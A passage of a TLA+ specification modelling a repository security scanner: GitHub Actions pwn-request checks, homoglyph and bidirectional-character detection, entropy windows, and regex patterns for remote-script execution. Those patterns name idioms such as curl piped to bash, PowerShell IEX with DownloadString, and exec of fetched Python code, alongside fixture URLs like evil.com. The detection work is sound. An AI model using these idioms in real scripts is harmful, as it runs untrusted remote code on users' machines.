        THEN <<LineFinding(RED, filePath, index,
                  "Potential command injection via " \o PathStr(INJECTABLE_CONTEXTS[c]),
                  PathStr(trimmedLine))>>
        ELSE <<>>])

LineFindings(lines, index, filePath) ==
    LET trimmedLine == Trim(lines[index])
        matched == PathStr(trimmedLine)
    IN (IF Includes(trimmedLine, PULL_REQUEST_TARGET)
        THEN <<LineFinding(YELLOW, filePath, index,
                 "pull_request_target event detected - review for pwn-request vulnerability",
                 matched)>>
        ELSE <<>>)
       \o InjectionFindings(lines, index, filePath)
       \o (IF hasSecretsExposure(trimmedLine)
           THEN <<LineFinding(RED, filePath, index,
                    "Potential secrets exposure in output", matched)>>
           ELSE <<>>)
       \o (IF Includes(trimmedLine, <<"uses:">>) /\ hasUnpinnedAction(trimmedLine)
           THEN <<LineFinding(YELLOW, filePath, index,
                    "Unpinned action version - consider pinning to a specific SHA",
                    matched)>>
           ELSE <<>>)
       \o (IF hasDangerousShellPattern(trimmedLine)
           THEN <<LineFinding(YELLOW, filePath, index,
                    "Dangerous shell pattern detected", matched)>>
           ELSE <<>>)
       \o (IF Includes(trimmedLine, <<"curl">>)
              /\ (Includes(trimmedLine, <<"|", " ", "bash">>)
                  \/ Includes(trimmedLine, <<"|", " ", "sh">>))
           THEN <<LineFinding(RED, filePath, index,
                    "curl piped to shell - potential code execution from remote source",
                    matched)>>
           ELSE <<>>)

\* the workflow state after the loop over the lines from index on
RECURSIVE WorkflowLoop(_, _, _, _)
WorkflowLoop(lines, index, filePath, state) ==
    IF index > Len(lines) THEN state
    ELSE LET trimmedLine == Trim(lines[index])
             isCheckout == Includes(trimmedLine, <<"actions/checkout">>)
             ahead == RefAhead(lines, index + 1,
                               IF index + 9 < Len(lines) THEN index + 9 ELSE Len(lines))
         IN WorkflowLoop(lines, index + 1, filePath,
               [hasPullRequestTarget |->
                    state.hasPullRequestTarget \/ Includes(trimmedLine, PULL_REQUEST_TARGET),
                hasWorkflowRun |->
                    state.hasWorkflowRun \/ Includes(trimmedLine, <<"workflow_run">>),
                hasCheckout |-> state.hasCheckout \/ isCheckout,
                checkoutRef |-> IF isCheckout /\ ahead # <<>> THEN ahead
                                ELSE state.checkoutRef,
                findings |-> state.findings \o LineFindings(lines, index, filePath)])

PwnRequestText ==
    "Pwn-request vulnerability: pull_request_target with PR checkout allows arbitrary code execution"

\* GitHubActionsScanner.scan
GitHubActionsScan(lines, filePath) ==
    LET state == WorkflowLoop(lines, 1, filePath,
                     [hasPullRequestTarget |-> FALSE, hasWorkflowRun |-> FALSE,
                      hasCheckout |-> FALSE, checkoutRef |-> <<>>, findings |-> <<>>])
    IN state.findings
       \o (IF /\ state.hasPullRequestTarget /\ state.hasCheckout
              /\ \/ Includes(state.checkoutRef, <<"pull_request">>)
                 \/ Includes(state.checkoutRef, <<"head.ref">>)
                 \/ Includes(state.checkoutRef, <<"head.sha">>)
           THEN <<Finding(RED, filePath, PwnRequestText, CAT_GITHUB_ACTIONS,
                          "pull_request_target + checkout PR ref")>>
           ELSE <<>>)
       \o (IF /\ state.hasWorkflowRun
              /\ \E k \in 1..Len(lines) :
                     Includes(Trim(lines[k]), <<"github.event.", "workflow_run">>)
           THEN <<Finding(YELLOW, filePath,
                    "workflow_run event with workflow_run context - review for privilege escalation",
                    CAT_GITHUB_ACTIONS, "")>>
           ELSE <<>>)

\* scanGitHubActions; the lines of a workflow text are its eco field
scanGitHubActions(content, filePath) == GitHubActionsScan(content.eco, filePath)

(***************************************************************************)
(* heuristics/homoglyphDetector.  A text is the sequence of its UTF-16     *)
(* code units, each a number; positions count from 0 as in the code.       *)
(***************************************************************************)
\* shared/constants: INVISIBLE_CHARS (U+200B, U+200C, U+200D, U+FEFF, U+00AD,
\* U+2060, U+180E)
INVISIBLE_CHARS == <<8203, 8204, 8205, 65279, 173, 8288, 6158>>

\* shared/constants: BIDI_CHARS (U+202A..U+202E, U+2066..U+2069)
BIDI_CHARS == <<8234, 8235, 8236, 8237, 8238, 8294, 8295, 8296, 8297>>

\* shared/constants: HOMOGLYPHS, the entries <<latin, lookalikes>> in the order
\* of the object; the third lookalike of 'o' is the digit zero
HOMOGLYPHS ==
    << <<97, <<1072, 593, 945>> >>,  <<99, <<1089, 1010>> >>,
       <<101, <<1077, 949>> >>,      <<111, <<1086, 959, 48>> >>,
       <<112, <<1088, 961>> >>,      <<120, <<1093, 967>> >>,
       <<121, <<1091, 947>> >>,      <<66, <<1042, 914>> >>,
       <<72, <<1053, 919>> >>,       <<75, <<1050, 922>> >>,
       <<77, <<1052, 924>> >>,       <<84, <<1058, 932>> >>,
       <<105, <<1110, 953>> >>,      <<106, <<1112>> >>,
       <<115, <<1109>> >> >>

SeqIncludes(s, x) == \E i \in 1..Len(s) : s[i] = x

HexDigits ==
    <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "A", "B", "C", "D", "E", "F">>

\* n.toString(16).toUpperCase()
RECURSIVE HexOf(_)
HexOf(n) ==
    IF n < 16 THEN HexDigits[n + 1] ELSE HexOf(n \div 16) \o HexDigits[(n % 16) + 1]

\* s.padStart(4, '0')
RECURSIVE PadStart4(_)
PadStart4(s) == IF Len(s) >= 4 THEN s ELSE PadStart4("0" \o s)

\* `U+${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`
CodePointOf(char) == "U+" \o PadStart4(HexOf(char))

\* the printable ASCII characters, from the space (32) to the tilde (126); the
\* grave accent is written as its escape
AsciiPrintable ==
    <<
       " ", "!", "\"", "#", "$", "%", "&", "'", "(", ")", "*", "+",
       ",", "-", ".", "/", "0", "1", "2", "3", "4", "5", "6", "7",
       "8", "9", ":", ";", "<", "=", ">", "?", "@", "A", "B", "C",
       "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O",
       "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z", "[",
       "\\", "]", "^", "_", "\\u0060", "a", "b", "c", "d", "e", "f", "g",
       "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", "s",
       "t", "u", "v", "w", "x", "y", "z", "{", "|", "}", "~" >>

\* a character inside a string: itself when printable ASCII, else written as
\* its escape
CharStr(char) ==
    IF char >= 32 /\ char <= 126 THEN AsciiPrintable[char - 31]
    ELSE "\\u" \o PadStart4(HexOf(char))

\* the characters of "[ZWSP]" and of "[BIDI]", and of "..."
ZWSP_TAG == <<91, 90, 87, 83, 80, 93>>
BIDI_TAG == <<91, 66, 73, 68, 73, 93>>
ELLIPSIS == <<46, 46, 46>>

\* context.replace(/[\u200B-\u200D\uFEFF]/g, '[ZWSP]')
ReplaceZeroWidth(context) ==
    Flatten([i \in 1..Len(context) |->
                IF context[i] \in 8203..8205 \/ context[i] = 65279
                THEN ZWSP_TAG ELSE <<context[i]>>])

\* context.replace(/[\u202A-\u202E\u2066-\u2069]/g, '[BIDI]')
ReplaceBidi(context) ==
    Flatten([i \in 1..Len(context) |->
                IF context[i] \in 8234..8238 \/ context[i] \in 8294..8297
                THEN BIDI_TAG ELSE <<context[i]>>])

\* getContext(content, position) with the default radius of 10
getContext(content, position) ==
    LET radius == 10
        start == IF position - radius > 0 THEN position - radius ELSE 0
        end == Min(Len(content), position + radius + 1)
        context == ReplaceBidi(ReplaceZeroWidth(SubSeq(content, start + 1, end)))
    IN (IF start > 0 THEN ELLIPSIS ELSE <<>>)
       \o context
       \o (IF end < Len(content) THEN ELLIPSIS ELSE <<>>)

detectInvisibleCharacters(content) ==
    Flatten([k \in 1..Len(content) |->
        LET i == k - 1
            char == content[k]
        IN (IF SeqIncludes(INVISIBLE_CHARS, char)
            THEN <<[type |-> "zero-width", position |-> i, character |-> char,
                    codePoint |-> CodePointOf(char), context |-> getContext(content, i)]>>
            ELSE <<>>)
           \o (IF SeqIncludes(BIDI_CHARS, char)
               THEN <<[type |-> "bidi", position |-> i, character |-> char,
                       codePoint |-> CodePointOf(char), context |-> getContext(content, i)]>>
               ELSE <<>>)])

\* the context of a homoglyph hit is a sentence, kept as a string
detectHomoglyphs(content) ==
    Flatten([k \in 1..Len(content) |->
        LET i == k - 1
            char == content[k]
        IN Flatten([h \in 1..Len(HOMOGLYPHS) |->
               IF SeqIncludes(HOMOGLYPHS[h][2], char)
               THEN <<[type |-> "homoglyph", position |-> i, character |-> char,
                       codePoint |-> CodePointOf(char),
                       context |-> "'" \o CharStr(char) \o "' looks like '"
                                       \o CharStr(HOMOGLYPHS[h][1]) \o "' at position "
                                       \o ToString(i)]>>
               ELSE <<>>])])

hasNonAscii(content) == \E k \in 1..Len(content) : content[k] > 127

hasMixedScripts(content) ==
    LET hasLatin == \E k \in 1..Len(content) :
                        content[k] \in 65..90 \/ content[k] \in 97..122
        hasCyrillic == \E k \in 1..Len(content) : content[k] \in 1024..1279
        hasGreek == \E k \in 1..Len(content) : content[k] \in 880..1023
        scriptCount == (IF hasLatin THEN 1 ELSE 0) + (IF hasCyrillic THEN 1 ELSE 0)
                           + (IF hasGreek THEN 1 ELSE 0)
    IN scriptCount > 1

needsHomoglyphScan(content) ==
    \/ hasNonAscii(content)
    \/ \E c \in 1..Len(INVISIBLE_CHARS) : SeqIncludes(content, INVISIBLE_CHARS[c])
    \/ \E c \in 1..Len(BIDI_CHARS) : SeqIncludes(content, BIDI_CHARS[c])

\* A variant that lists every location instead of the first three.
Locations_All(hits) ==
    Join([k \in 1..Len(hits) |->
             hits[k].codePoint \o " at pos " \o ToString(hits[k].position)], ", ")

\* hits.slice(0, 3).map(c => `${c.codePoint} at pos ${c.position}`).join(', ')
Locations(hits) ==
    Join([k \in 1..Len(Slice0(hits, 3)) |->
             hits[k].codePoint \o " at pos " \o ToString(hits[k].position)], ", ")

\* hits.slice(0, 3).map(c => c.context).join('; ')
Contexts(hits) == Join([k \in 1..Len(Slice0(hits, 3)) |-> hits[k].context], "; ")

scanForHomoglyphs(content, filePath) ==
    LET invisibleChars == detectInvisibleCharacters(content)
        zeroWidth == SelectSeq(invisibleChars, LAMBDA c : c.type = "zero-width")
        bidi == SelectSeq(invisibleChars, LAMBDA c : c.type = "bidi")
        homoglyphs == detectHomoglyphs(content)
    IN (IF Len(zeroWidth) > 0
        THEN <<Finding(RED, filePath,
                 ToString(Len(zeroWidth)) \o " zero-width character(s) detected - potential obfuscation",
                 CAT_HOMOGLYPH, Locations(zeroWidth))>>
        ELSE <<>>)
       \o (IF Len(bidi) > 0
           THEN <<Finding(RED, filePath,
                    ToString(Len(bidi)) \o " bidirectional override character(s) detected - potential Trojan Source attack",
                    CAT_HOMOGLYPH, Locations(bidi))>>
           ELSE <<>>)
       \o (IF Len(homoglyphs) > 0 /\ hasMixedScripts(content)
           THEN <<Finding(RED, filePath,
                    ToString(Len(homoglyphs)) \o " homoglyph character(s) detected in mixed-script context - potential spoofing attack",
                    CAT_HOMOGLYPH, Contexts(homoglyphs))>>
           ELSE IF Len(homoglyphs) > 0
           THEN <<Finding(YELLOW, filePath,
                    ToString(Len(homoglyphs)) \o " potential homoglyph character(s) detected",
                    CAT_HOMOGLYPH, Contexts(homoglyphs))>>
           ELSE <<>>)

(***************************************************************************)
(* heuristics/entropy.  A content shorter than the window is classified    *)
(* as a whole (content.whole: "normal", "high" or "critical"); a longer    *)
(* one (content.whole = "long") is the sequence of its windows, one every  *)
(* STEP_SIZE characters, each with what classifyEntropy and isLikelyBase64 *)
(* make of it: "critical", "base64" (high and likely base64), "high", or   *)
(* "normal" (normal or elevated).  A window that isLikelyHex accepts is    *)
(* one that isLikelyBase64 accepts, so the hex test rejects no window.     *)
(* toFixed(2) of a critical entropy is written 6.80, of a high one 5.90.   *)
(***************************************************************************)
WINDOW_SIZE == 100
STEP_SIZE == 50

\* createEntropyFinding, for a content classified as a whole
createEntropyFinding(level, filePath) ==
    IF level = "critical"
    THEN Finding(RED, filePath,
           "Critical entropy (6.80) - likely encrypted or heavily obfuscated",
           CAT_ENTROPY, "")
    ELSE Finding(YELLOW, filePath,
           "High entropy (5.90) detected - possible obfuscation", CAT_ENTROPY, "")

EntropyWindowFinding(level, filePath) ==
    IF level = "critical"
    THEN Finding(RED, filePath,
           "Critical entropy (6.80) detected - likely encrypted or heavily obfuscated",
           CAT_ENTROPY, "...")
    ELSE IF level = "base64"
    THEN Finding(YELLOW, filePath,
           "High entropy base64 data (5.90) - review for hidden content",
           CAT_ENTROPY, "...")
    ELSE Finding(YELLOW, filePath,
           "High entropy (5.90) detected - possible obfuscation", CAT_ENTROPY, "...")

\* the sliding window loop: window k starts at i = (k - 1) * STEP_SIZE; a
\* region that has reported is skipped.  A report is the region and the level
\* of a window for which a finding is pushed.
RECURSIVE EntropyReports_EveryWindow(_, _, _, _)
EntropyReports_EveryWindow(windows, k, highEntropyRegions, reports) ==
    IF k > Len(windows) THEN reports
    ELSE LET regionKey == ((k - 1) * STEP_SIZE) \div (WINDOW_SIZE * 2) IN
         IF windows[k] = "normal"
         THEN EntropyReports_EveryWindow(windows, k + 1, highEntropyRegions, reports)
         ELSE EntropyReports_EveryWindow(windows, k + 1, highEntropyRegions,
                  Append(reports, [regionKey |-> regionKey, level |-> windows[k]]))

RECURSIVE EntropyReports(_, _, _, _)
EntropyReports(windows, k, highEntropyRegions, reports) ==
    IF k > Len(windows) THEN reports
    ELSE LET regionKey == ((k - 1) * STEP_SIZE) \div (WINDOW_SIZE * 2) IN
         IF regionKey \in highEntropyRegions \/ windows[k] = "normal"
         THEN EntropyReports(windows, k + 1, highEntropyRegions, reports)
         ELSE EntropyReports(windows, k + 1, highEntropyRegions \cup {regionKey},
                  Append(reports, [regionKey |-> regionKey, level |-> windows[k]]))

EntropyLoop(windows, k, highEntropyRegions, findings, filePath) ==
    \* bound once: the reports are read twice below
    CHOOSE fs \in { findings \o [r \in 1..Len(reports) |->
                                    EntropyWindowFinding(reports[r].level, filePath)] :
                    reports \in {EntropyReports(windows, k, highEntropyRegions, <<>>)} } : TRUE

\* the findings before the limit is applied
EntropyDetections(content, filePath) ==
    IF content.whole # "long"
    THEN IF content.whole \in {"critical", "high"}
         THEN <<createEntropyFinding(content.whole, filePath)>>
         ELSE <<>>
    ELSE EntropyLoop(content.entropy, 1, {}, <<>>, filePath)

\* scanForHighEntropy without the limit
scanForHighEntropy_NoLimit(content, filePath) == EntropyDetections(content, filePath)

scanForHighEntropy(content, filePath) ==
    LET findings == EntropyDetections(content, filePath)
    IN IF content.whole = "long" /\ Len(findings) > 5
       THEN LET limited == Slice0(SelectSeq(findings, LAMBDA f : f.riskLevel = RED), 3)
                           \o Slice0(SelectSeq(findings, LAMBDA f : f.riskLevel = YELLOW), 2)
            IN IF Len(findings) > Len(limited)
               THEN Append(limited,
                        Finding(YELLOW, filePath,
                          ToString(Len(findings) - Len(limited)) \o " additional high entropy regions detected",
                          CAT_ENTROPY, ""))
               ELSE limited
       ELSE findings

(***************************************************************************)
(* heuristics/recursiveGuard.  The script of a content is the sequence of  *)
(* its pieces (words, punctuation, the blank " " and the line break "\n"). *)
(* A regular expression is a sequence of items, each matching pieces:      *)
(*   In(s)      one piece of s             Out(s)     one piece not in s   *)
(*   Opt(s)     at most one piece of s                                     *)
(*   InStar(s)  any number of pieces of s  OutStar(s) any number not in s *)
(* so \s* is InStar(Blanks) and .* is OutStar({"\n"}).  The patterns are   *)
(* case-insensitive; the scripts below write each word as the pattern      *)
(* does, but for iex.                                                      *)
(***************************************************************************)
In(s) == [k |-> "in", s |-> s]
Out(s) == [k |-> "out", s |-> s]
Opt(s) == [k |-> "opt", s |-> s]
InStar(s) == [k |-> "in*", s |-> s]
OutStar(s) == [k |-> "out*", s |-> s]

Blanks == {" ", "\n"}
Ws == InStar(Blanks)                         \* \s*
AnyInLine == OutStar({"\n"})                 \* .*
W(word) == In({word})
Quotes == {"'", "\""}
BACKQUOTE == "\\u0060"

\* the positions at which a match of the items of pattern from j on, begun at
\* piece i of text, may end (the position after its last piece)
RECURSIVE Ends(_, _, _, _)
Ends(text, i, pattern, j) ==
    IF j > Len(pattern) THEN {i}
    ELSE LET item == pattern[j]
             here == i <= Len(text)
                       /\ IF item.k \in {"in", "opt", "in*"} THEN text[i] \in item.s
                          ELSE text[i] \notin item.s
         IN CASE item.k \in {"in", "out"} ->
                   IF here THEN Ends(text, i + 1, pattern, j + 1) ELSE {}
              [] item.k = "opt" ->
                   Ends(text, i, pattern, j + 1)
                       \cup (IF here THEN Ends(text, i + 1, pattern, j + 1) ELSE {})
              [] OTHER ->
                   Ends(text, i, pattern, j + 1)
                       \cup (IF here THEN Ends(text, i + 1, pattern, j) ELSE {})

\* RegExp.prototype.test
Test(text, pattern) == \E i \in 1..Len(text) : Ends(text, i, pattern, 1) # {}

\* String.prototype.match with the g flag: the number of matches, each the
\* leftmost one after the match before it and as long as its greedy items allow
RECURSIVE MatchCountFrom(_, _, _)
MatchCountFrom(text, i, pattern) ==
    IF i > Len(text) THEN 0
    ELSE LET ends == Ends(text, i, pattern, 1) IN
         IF ends = {} THEN MatchCountFrom(text, i + 1, pattern)
         ELSE 1 + MatchCountFrom(text, CHOOSE e \in ends : \A f \in ends : f <= e, pattern)

MatchCount(text, pattern) == MatchCountFrom(text, 1, pattern)

SECONDARY_SCRIPT_PATTERNS ==
    << <<"shell",
         << <<W("curl"), In(Blanks), Ws, AnyInLine, W("|"), Ws, In({"bash", "sh", "zsh"})>>,
            <<W("wget"), In(Blanks), Ws, AnyInLine, W("-O"), Ws, W("-"), Ws, W("|"), Ws,
              In({"bash", "sh"})>>,
            <<W("$("), W("curl"), In(Blanks), Ws, Out({")"}), OutStar({")"}), W(")")>>,
            <<W(BACKQUOTE), W("curl"), In(Blanks), Ws, Out({BACKQUOTE}),
              OutStar({BACKQUOTE}), W(BACKQUOTE)>>,
            <<W("source"), In(Blanks), Ws, W("<("), W("curl")>>,
            <<W("eval"), In(Blanks), Ws, W("\""), W("$("), W("curl")>> >> >>,
       <<"powershell",
         << <<W("Invoke-Expression"), Ws, W("("), Ws, Opt({"("}), Ws, W("New-Object")>>,
            <<In({"IEX", "iex"}), Ws, W("("), Ws, Opt({"("}), Ws, W("New-Object")>>,
            <<W("[System.Net.WebClient]"), AnyInLine, W("DownloadString")>>,
            <<W("Invoke-WebRequest"), AnyInLine, W("|"), Ws, W("Invoke-Expression")>>,
            <<W("iwr"), AnyInLine, W("|"), Ws, In({"IEX", "iex"})>> >> >>,
       <<"node",
         << <<W("eval"), Ws, W("("), Ws, W("require"), Ws, W("(")>>,
            <<W("new"), In(Blanks), Ws, W("Function"), Ws, W("("), OutStar({")"}),
              W("require")>>,
            <<W("child_process"), AnyInLine, W("exec"), AnyInLine, W("${")>>,
            <<W("require"), Ws, W("("), Ws, In(Quotes), W("child_process"), In(Quotes),
              Ws, W(")")>> >> >>,
       <<"python",
         << <<W("exec"), Ws, W("("), Ws, W("urllib")>>,
            <<W("exec"), Ws, W("("), Ws, W("requests.get")>>,
            <<W("eval"), Ws, W("("), Ws, W("base64.b64decode")>>,
            <<W("__import__"), Ws, W("("), Ws, In(Quotes), W("urllib")>> >> >>,
       <<"dynamic",
         << <<W("import"), Ws, W("("), Ws, In(Quotes \cup {BACKQUOTE}),
              OutStar(Quotes \cup {BACKQUOTE}), W("${")>>,
            <<W("require"), Ws, W("("), Ws, Out(Quotes)>>,
            <<W("importlib.import_module"), Ws, W("(")>> >> >> >>

\* the pieces that are URLs (/https?:\/\/[^\s"'`<>)\]]+/), and those of them
\* that hold .sh, .ps1, .py, .rb, raw., pastebin, paste., hastebin or gist.
ScriptUrls ==
    {"https://evil.com/x", "https://example.org/install.sh", "https://pastebin.com/raw/k"}
SuspiciousScriptUrls == {"https://example.org/install.sh", "https://pastebin.com/raw/k"}

\* extractUrls: the URLs in the order of their first occurrence
RECURSIVE extractUrlsFrom(_, _, _)
extractUrlsFrom(text, i, urls) ==
    IF i > Len(text) THEN urls
    ELSE extractUrlsFrom(text, i + 1,
             IF text[i] \in ScriptUrls /\ ~SeqIncludes(urls, text[i])
             THEN Append(urls, text[i]) ELSE urls)

extractUrls(text) == extractUrlsFrom(text, 1, <<>>)

\* the RED findings of the patterns, in the order of the categories, of the
\* patterns and of the matches (match.substring(0, 100) is left out)
ExecutionFindings(text, filePath) ==
    Flatten([c \in 1..Len(SECONDARY_SCRIPT_PATTERNS) |->
        Flatten([q \in 1..Len(SECONDARY_SCRIPT_PATTERNS[c][2]) |->
            [m \in 1..MatchCount(text, SECONDARY_SCRIPT_PATTERNS[c][2][q]) |->
                Finding(RED, filePath,
                  "Secondary script execution pattern (" \o SECONDARY_SCRIPT_PATTERNS[c][1]
                      \o "): downloads and executes remote code",
                  CAT_VSCODE, "")]])])

\* the findings before the limit is applied
SecondaryDetections(text, filePath) ==
    LET exec == ExecutionFindings(text, filePath)
        suspiciousUrls == SelectSeq(extractUrls(text),
                                    LAMBDA url : url \in SuspiciousScriptUrls)
    IN IF Len(suspiciousUrls) > 0 /\ Len(exec) = 0
       THEN <<Finding(YELLOW, filePath,
                "References to potentially executable remote content", CAT_VSCODE,
                Join(Slice0(suspiciousUrls, 3), ", "))>>
       ELSE exec

\* the limit of scanForSecondaryScripts
LimitSecondary(findings, filePath) ==
    IF Len(findings) > 5
    THEN Append(Slice0(findings, 5),
             Finding(YELLOW, filePath,
               ToString(Len(findings) - 5) \o " additional secondary script patterns detected",
               CAT_VSCODE, ""))
    ELSE findings

scanForSecondaryScripts(content, filePath) ==
    LimitSecondary(SecondaryDetections(content.script, filePath), filePath)

\* needsDeepInspection: quickPatterns
QUICK_PATTERNS ==
    << <<W("curl"), AnyInLine, W("|")>>,
       <<W("wget"), AnyInLine, W("-O"), AnyInLine, W("-")>>,
       <<W("Invoke-Expression")>>,
       <<In({"IEX", "iex"}), Ws, W("(")>>,
       <<W("eval"), Ws, W("(")>>,
       <<W("exec"), Ws, W("(")>>,
       <<W("child_process")>>,
       <<W("__import__")>> >>

needsDeepInspection(content) ==
    \E q \in 1..Len(QUICK_PATTERNS) : Test(content.script, QUICK_PATTERNS[q])

(***************************************************************************)
(* heuristics/index: scanFile, scanRepository                              *)
(***************************************************************************)
HeuristicsFlags == {"enableEntropyScan", "enableHomoglyphScan", "enableSecondaryScriptScan"}

\* { ...DEFAULT_CONFIG, ...config }: config is a partial HeuristicsConfig
MergedConfig(config) ==
    [k \in HeuristicsFlags |-> IF k \in DOMAIN config THEN config[k] ELSE TRUE]

\* file.content is falsy exactly when it is the empty string
HasContent(file) == file.exists /\ ~file.content.empty

\* the file's ecosystem scanner: Ok(findings) or Throw
EcosystemScan(file) ==
    LET scannerType == getScannerType(file.path)
        path == PathStr(file.path)
    IN CASE scannerType = "vscode" -> scanVSCodeTasks(file.content.json, path)
         [] scannerType = "npm" -> scanNPMPackage(file.content.json, path)
         [] scannerType = "python" -> Ok(scanPython(file.content, path))
         [] scannerType = "rust" -> Ok(scanRust(file.content, path))
         [] scannerType = "github" -> Ok(scanGitHubActions(file.content, path))
         [] OTHER -> Ok(<<>>)

scanFile(file, config) ==
    LET mergedConfig == MergedConfig(config)
        path == PathStr(file.path)
    IN IF ~file.exists \/ file.content.empty THEN Ok(<<>>)
       ELSE LET eco == EcosystemScan(file) IN
            IF eco.threw THEN Throw
            ELSE Ok(eco.value
                    \o (IF mergedConfig["enableHomoglyphScan"] /\ needsHomoglyphScan(file.content.chars)
                        THEN scanForHomoglyphs(file.content.chars, path) ELSE <<>>)
                    \o (IF mergedConfig["enableEntropyScan"]
                        THEN scanForHighEntropy(file.content, path) ELSE <<>>)
                    \o (IF mergedConfig["enableSecondaryScriptScan"]
                           /\ needsDeepInspection(file.content)
                        THEN scanForSecondaryScripts(file.content, path) ELSE <<>>))

\* the loop of scanRepository: [scannedFiles, skippedFiles, allFindings], or Throw
RECURSIVE ScanLoop(_, _, _, _)
ScanLoop(files, i, config, acc) ==
    IF i > Len(files) THEN Ok(acc)
    ELSE IF HasContent(files[i])
    THEN LET result == scanFile(files[i], config) IN
         IF result.threw THEN Throw
         ELSE ScanLoop(files, i + 1, config,
                  [acc EXCEPT !.scannedFiles = Append(@, PathStr(files[i].path)),
                              !.allFindings = Append(@, result.value)])
    ELSE ScanLoop(files, i + 1, config,
             [acc EXCEPT !.skippedFiles = Append(@, PathStr(files[i].path))])

ScanIncompleteText ==
    "Unable to fetch files for scanning. This may be due to GitHub rate limiting, or the files don't exist at the expected paths."

PartialScanText(n) == ToString(n) \o " file(s) could not be fetched - partial scan only"

\* a scanRepository that reports the scan as incomplete whenever a file was
\* skipped, and as partial on top of that when some file was scanned
FetchFindings_Both(scannedFiles, skippedFiles, repository) ==
    (IF Len(skippedFiles) > 0
     THEN <<Finding(YELLOW, repository.url, ScanIncompleteText, CAT_FETCH_ERROR,
              ToString(Len(skippedFiles)) \o " file(s): " \o Join(Slice0(skippedFiles, 3), ", "))>>
     ELSE <<>>)
    \o (IF Len(skippedFiles) > 0 /\ Len(scannedFiles) > 0
        THEN <<Finding(YELLOW, repository.url, PartialScanText(Len(skippedFiles)),
                 CAT_FETCH_ERROR, Join(Slice0(skippedFiles, 3), ", "))>>
        ELSE <<>>)

\* the synthetic fetch-completeness finding scanRepository pushes, if any
FetchFindings(scannedFiles, skippedFiles, repository) ==
    IF Len(scannedFiles) = 0 /\ Len(skippedFiles) > 0
    THEN <<Finding(YELLOW, repository.url, ScanIncompleteText, CAT_FETCH_ERROR,
             ToString(Len(skippedFiles)) \o " file(s): " \o Join(Slice0(skippedFiles, 3), ", "))>>
    ELSE IF Len(skippedFiles) > 0 /\ Len(scannedFiles) > 0
    THEN <<Finding(YELLOW, repository.url, PartialScanText(Len(skippedFiles)),
             CAT_FETCH_ERROR, Join(Slice0(skippedFiles, 3), ", "))>>
    ELSE <<>>

\* scanRepository after its loop: the loop threw, or left loop.value
ScanOutcome(loop, repository) ==
    IF loop.threw THEN Throw
    ELSE LET scannedFiles == loop.value.scannedFiles
             skippedFiles == loop.value.skippedFiles
         IN CHOOSE result \in
                {Ok(createScanResult(findings, scannedFiles, skippedFiles, repository)) :
                    findings \in {aggregateFindings(loop.value.allFindings)
                                     \o FetchFindings(scannedFiles, skippedFiles, repository)}} :
                TRUE

\* scanRepository: Ok(ScanResult), or Throw when a scanner throws
scanRepository(files, repository, config) ==
    CHOOSE outcome \in
        {ScanOutcome(loop, repository) :
            loop \in {ScanLoop(files, 1, config,
                          [scannedFiles |-> <<>>, skippedFiles |-> <<>>,
                           allFindings |-> <<>>])}} :
        TRUE

(***************************************************************************)
(* The aggregator functions applied to bounded inputs.                     *)
(*                                                                         *)
(* FindingPool holds findings whose filePath and description contain the   *)
(* ':' that DedupKey uses as its separator, two findings that agree on     *)
(* (riskLevel, filePath, description) and differ in matchedContent, and a  *)
(* GREEN-level entry (RiskLevel.GREEN is a member of the enum, so the type *)
(* Finding allows it).                                                     *)
(***************************************************************************)
FindingPool ==
    {Finding(r, pd[1], pd[2], CAT_NPM, "") :
        r \in {RED, YELLOW}, pd \in {<<"a", "c">>, <<"a:b", "c">>, <<"a", "b:c">>}}
    \cup {Finding(GREEN, "a", "c", CAT_NPM, ""),
          Finding(RED, "a", "c", CAT_VSCODE, "x")}

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == SeqsUpTo(S, n - 1) IN
         shorter \cup {Append(s, x) : s \in {t \in shorter : Len(t) = n - 1}, x \in S}

\* the list cut into consecutive batches after the positions in cuts
RECURSIVE CutFrom(_, _, _, _)
CutFrom(list, cuts, i, current) ==
    IF i > Len(list) THEN (IF current = <<>> THEN <<>> ELSE <<current>>)
    ELSE IF i \in cuts
         THEN <<Append(current, list[i])>> \o CutFrom(list, cuts, i + 1, <<>>)
         ELSE CutFrom(list, cuts, i + 1, Append(current, list[i]))

BatchesOf(list) ==
    {CutFrom(list, cuts, 1, <<>>) : cuts \in SUBSET (1..(Len(list) - 1))}

BatchOrders(n) ==
    {p \in [1..n -> 1..n] : \A i, j \in 1..n : p[i] = p[j] => i = j}

Permuted(arrays, p) == [i \in 1..Len(arrays) |-> arrays[p[i]]]

\* [...findings].sort(cmp): the argument as the call leaves it, and the result
sortCall(findings) ==
    [arg |-> findings, ret |-> sortFindingsBySeverity(findings)]

\* what scanRepository and createScanResult make of the batches: aggregate, then sort
mergeBatches(arrays) == sortFindingsBySeverity(aggregateFindings(arrays))

AggRepository == [owner |-> "o", repo |-> "r", branch |-> "main", url |-> "u"]

AggIdle ==
    /\ isScanning = FALSE
    /\ lastScanResult = [kind |-> "null"]
    /\ localStore = [lastScan |-> [kind |-> "null"], cache |-> <<>>]
    /\ syncConfig = <<>>
    /\ calls = <<>>
    /\ scanFiles = <<>>
    /\ scanConfig = <<>>
    /\ scanOp = "idle"
    /\ scanOut = <<>>
    /\ textIn = <<>>
    /\ textOp = "idle"
    /\ textOut = <<>>

AggInit ==
    /\ ContentIdle
    /\ AggIdle
    /\ \E list \in SeqsUpTo(FindingPool, MaxFindings) :
           findingsArrays \in BatchesOf(list)
    /\ aggOp = "input"
    /\ aggOut = <<>>

AggClassify ==
    /\ aggOp = "input"
    /\ aggOp' = "determineOverallRisk"
    /\ aggOut' = determineOverallRisk(Flatten(findingsArrays))
    /\ UNCHANGED <<findingsArrays, handlerVars, contentVars, scanVars, textVars>>

AggDedup ==
    /\ aggOp = "input"
    /\ aggOp' = "deduplicateFindings"
    /\ aggOut' = deduplicateFindings(Flatten(findingsArrays))
    /\ UNCHANGED <<findingsArrays, handlerVars, contentVars, scanVars, textVars>>

\* deduplicateFindings applied to what deduplicateFindings returned
AggDedupAgain ==
    /\ aggOp = "deduplicateFindings"
    /\ aggOp' = "deduplicateFindings twice"
    /\ aggOut' = [once |-> aggOut, twice |-> deduplicateFindings(aggOut)]
